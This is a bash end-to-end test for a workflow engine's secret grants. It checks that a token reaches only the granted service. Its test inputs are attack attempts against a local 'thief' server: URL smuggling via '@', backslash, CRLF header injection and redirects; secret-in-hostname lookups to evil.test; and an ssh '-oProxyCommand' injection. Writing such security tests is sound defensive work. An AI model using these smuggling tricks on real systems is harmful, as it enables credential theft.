#!/usr/bin/env bash
# attack_secret.t - what the author of a workflow can do to get at secrets of the
# drivers that serve the workspace. `payroll` may send `token` to one service;
# whatever else tries to use it, or to send it somewhere else, is refused by the
# driver before anything is sent. `thief` hears all that comes to him.
. "$(dirname "$0")/../lib.sh"
. "$ROOT/tests/e2e/flow.sh"
SECRETS=$(private_dir)
TOKEN=S3CR3T-1-Kx7bQ9zPwL
(umask 077 && printf '%s' "$TOKEN" >"$SECRETS/token" && printf 'none of it' >"$SECRETS/other")

# shellcheck disable=SC2016 # variables of nginx
heard='access_log heard.log heard; location / { echo_read_request_body; echo -n "$http_authorization"; }'
nginx_start "$heard location /away { return 302 \$arg_to; }"
GOOD=$HTTP_URL
GOOD_PORT=$HTTP_PORT
nginx_start "$heard" thief
THIEF=$HTTP_URL
sshd_start
workspace_start
for login in ann eve; do
    login_create "$login" wf_author
done

# reload: the driver has read its configuration again.
reload() {
    local before
    before=$(reloads)
    kill -s HUP "$(pid_of driver-one)"
    wait_until 20 eval "[ \$(reloads) -gt $before ]"
}

reloads() {
    grep -c 'configuration read again' "$WORK/driver-one.log" || true
}

# what_thief_heard: the requests that came to him.
what_thief_heard() {
    if [ -e "$WORK/thief/heard.log" ]; then cat "$WORK/thief/heard.log"; fi
}

# driver_with GRANT…: the driver has these lines and no others.
driver_with() {
    {
        printf 'secrets: { directory = "%s"; grants = [' "$SECRETS"
        [ $# -eq 0 ] || printf '"%s"' "$1"
        [ $# -lt 2 ] || printf ', "%s"' "${@:2}"
        printf ']; };\n'
    } >"$SECRETS/driver.conf"
}

# install WORKFLOW TASK [LOGIN]: a workflow with this one task, and types of tasks for it.
install() {
    cat >"$WORK/$1.wf" <<END
task pay.Get(url: string, token: secret) {
  start http(url = url, headers = {authorization: token})
}
task eve.Get(url: string, token: secret) {
  start http(url = url, headers = {authorization: token})
}
task pay.Host() {
  start http(url = "http://PLACE.evil.test/")
}
task pay.Job(url: string, then: string, token: secret) {
  start http(url = url)
        handle {id: "job"}
  poll  http(url = then, headers = {authorization: token})
        every(10ms)
        success when (response.status == 200)
}
task pay.Query() {
  start sql(statement = "select \$1::text", params = ["PLACE"])
}
workflow $1(url: string = "$GOOD/") {
  $2
}
END
    PGUSER=${3:-eve} wf-console install "$WORK/$1.wf" >"$WORK/console.log" 2>&1 || {
        diag "$(cat "$WORK/console.log")"
        return 1
    }
}

# forge WORKFLOW: the workflow again, not from the compiler: with the token in each PLACE;
# what the workspace says.
forge() {
    PGUSER=eve psql -XqAt -c "select count(*) from wf.install('', (
        select replace(replace((v.tree || '{\"file\": \"payroll.wf\"}')::text,
                   '\"http://PLACE.evil.test/\"', '[\"text\", \"http://\", [\"secret\", \"token\"], \".evil.test/\"]'),
                   '\"PLACE\"', '[\"secret\", \"token\"]')::jsonb
          from wf.version_v v where v.workflow = '$1' order by v.version desc limit 1))" 2>&1
}

# run WORKFLOW [OPTION…]: what becomes of its task: END, or the kind and the message of its error.
run() {
    local id
    id=$(begin "$@")
    wait_sql 20 "select exists (select from wf.task_v where instance_id = $id
        and state in ('END', 'FAILED'))" || true
    sql "select coalesce((error ->> 'kind') || ': ' || (error ->> 'message'), state)
           from wf.task_v where instance_id = $id"
}

# refused NAME TASK REGEX [WORKFLOW]: eve's workflow fails before anything is sent.
refused() {
    install "${4:-evil}" "$2"
    like "$1" "$(run "${4:-evil}")" "$3"
}

GET='pay.Get(url = url, token = secret("token"))'

# --- nobody, unless the driver's configuration says so

driver_with
driver_start one -c "$SECRETS/driver.conf" "${DRIVER_HTTP[@]}" \
    -o "ssh.config_file=$SSH_CONFIG" -o 'exec.programs=sh=/bin/sh,cat=/bin/cat' -o exec.env=TOKEN \
    -o sql_connection=user=wf_driver_one
install payroll "$GET" ann
is 'by default nobody may use any' "$(run payroll)" \
    'secret: workflow payroll may not use secret token in a task of type pay.Get (If it should, add "token payroll pay.Get DESTINATION" to secrets.grants in the driver'"'"'s configuration, then retry the task.)'

# --- one workflow, one type of task, one service

driver_with "token payroll pay.Get $GOOD" "token payroll pay.Job $GOOD"
reload
is 'the workflow with the grant sends the secret' "$(run payroll)" END
is 'to the service' "$(cut -d '|' -f 2 "$WORK/nginx/heard.log")" "$TOKEN"

NOT='^secret: workflow [^ ]+ may not use secret'
refused 'another workflow' "$GET" "$NOT token in a task of type pay.Get"
refused 'one whose name begins alike' "$GET" "$NOT" payroll2
refused 'one whose name it begins with' "$GET" "$NOT" pay
refused 'another secret' 'pay.Get(url = url, token = secret("other"))' "$NOT other"
refused 'a secret that is not there' 'pay.Get(url = url, token = secret("nowhere"))' "$NOT nowhere"

# eve may install payroll, too: where it goes is not hers to say
AWAY='^secret: secret token may not go to'
# stolen NAME TASK [REGEX]: nor does a version of payroll that is hers.
stolen() {
    refused "$1" "$2" "${3:-$AWAY}" payroll
}
stolen 'another type of task' 'eve.Get(url = url, token = secret("token"))' "$NOT token in a task of type eve.Get"
stolen 'the type of the library' 'http.Request(url = url, headers = {authorization: secret("token")})' \
    "$NOT token in a task of type http.Request"
stolen 'a program of the driver' 'exec.Run(program = "cat", stdin = secret("token"))' "$NOT token in a task of type exec.Run"
stolen 'a command on a host' 'ssh.Run(host = "worker", command = ["cat"], stdin = secret("token"))' "$NOT"
# forged NAME TASK PLACE: the workspace refuses what no compiler has made.
forged() {
    install payroll "$2"
    like "$1" "$(forge payroll)" "a secret ends up in $3"
}
forged 'a statement' 'pay.Query()' 'params of sql'
forged 'in the name of a host' 'pay.Host()' 'url of http'
forged 'a line in the log' 'lb.Log(msg = "PLACE")' 'message of builtin'
stolen 'the poll of a job' "pay.Job(url = url, then = \"$THIEF/\", token = secret(\"token\"))" "$AWAY $THIEF"

install payroll "$GET"
# led NAME URL [REGEX]: somebody starts payroll with that URL.
led() {
    like "$1" "$(run payroll -p "url=$2")" "${3:-$AWAY}"
}
THIEF_PORT=${THIEF##*:}
led 'another port' "$THIEF/" "$AWAY $THIEF from a task of type pay.Get in workflow payroll"
led 'no port' http://127.0.0.1/
led 'another address' "http://127.0.0.2:$GOOD_PORT/"
led 'another name' "http://localhost:$GOOD_PORT/"
led 'a name that begins alike' "http://127.0.0.1.evil.test:$GOOD_PORT/"
led 'a dot behind it' "http://127.0.0.1.:$GOOD_PORT/"
led 'TLS is another service' "https://127.0.0.1:$GOOD_PORT/"
led 'the service as a user' "http://127.0.0.1:$GOOD_PORT@127.0.0.1:$THIEF_PORT/" '^input: url must not have a user'
led 'the service behind a backslash' "http://127.0.0.1:$THIEF_PORT\\@127.0.0.1:$GOOD_PORT/" '^(secret|input): '
led 'the service as a fragment' "$THIEF#@127.0.0.1:$GOOD_PORT/"
led 'the service as a query' "$THIEF?127.0.0.1:$GOOD_PORT/"
led 'the service as a path' "$THIEF/127.0.0.1:$GOOD_PORT/"
led 'a blank behind it' "$GOOD @127.0.0.1:$THIEF_PORT/" '^(secret|input): '
led 'a line end behind it' "$GOOD"$'\r\n'"Host: 127.0.0.1:$THIEF_PORT" '^(secret|input): '
led 'no scheme' "127.0.0.1:$THIEF_PORT/" '^(secret|input): '
led 'another scheme' "gopher://127.0.0.1:$THIEF_PORT/" '^input: '
led 'a redirect is not followed' "$GOOD/away?to=$THIEF/" 'answered 302'
is 'thief has heard nothing' "$(what_thief_heard)" ''
is "in eve's version it may go where it is meant to go" "$(run payroll)" END

# --- destinations that are no services of HTTP

driver_with "token payroll exec.Run exec://cat" "token payroll ssh.Run ssh://other"
reload
is 'the secret of a revoked grant is not sent' "$(run payroll | cut -d ' ' -f 1-8)" 'secret: workflow payroll may not use secret token'
install payroll 'exec.Run(program = "cat", stdin = secret("token"))'
is 'a program that is granted' "$(run payroll)" END
stolen 'another program' 'exec.Run(program = "sh", args = ["-c", "cat"], stdin = secret("token"))' "$AWAY exec://sh"
stolen 'a name of a program with the granted one in it' \
    'exec.Run(program = "cat/../sh", stdin = secret("token"))' "$AWAY exec://cat/../sh"
stolen 'another host' 'ssh.Run(host = "worker", command = ["cat"], stdin = secret("token"))' "$AWAY ssh://worker"
stolen 'an option in place of a host' 'ssh.Run(host = "-oProxyCommand=cat", command = ["cat"], stdin = secret("token"))' \
    '^input: host must be the name of a host'
stolen 'the same host with another port' \
    'ssh.Run(host = "other", port = 2222, command = ["cat"], stdin = secret("token"))' "$AWAY ssh://other:2222"


# --- what is no grant is refused when the driver reads it

driver_with "token payroll pay.Get" "token payroll pay.Get hr.example.com"
exits 'a line of three words' 78 wf-driver -n -c "$SECRETS/driver.conf" -d "$PGDATABASE"
like 'says so' "$OUTPUT" 'secrets.grants: "token payroll pay.Get" has 3 words, not 4'
pg_dump >"$WORK/dump"
ok 'the whole workspace was looked at' grep -q '^COPY wf\.event ' "$WORK/dump"
is 'the token is nowhere in the workspace' "$(grep -c "$TOKEN" "$WORK/dump")" 0
is 'the token is nowhere in the log' "$(grep -c "$TOKEN" "$WORK/driver-one.log")" 0
driver_stop one || true
sound
done_testing
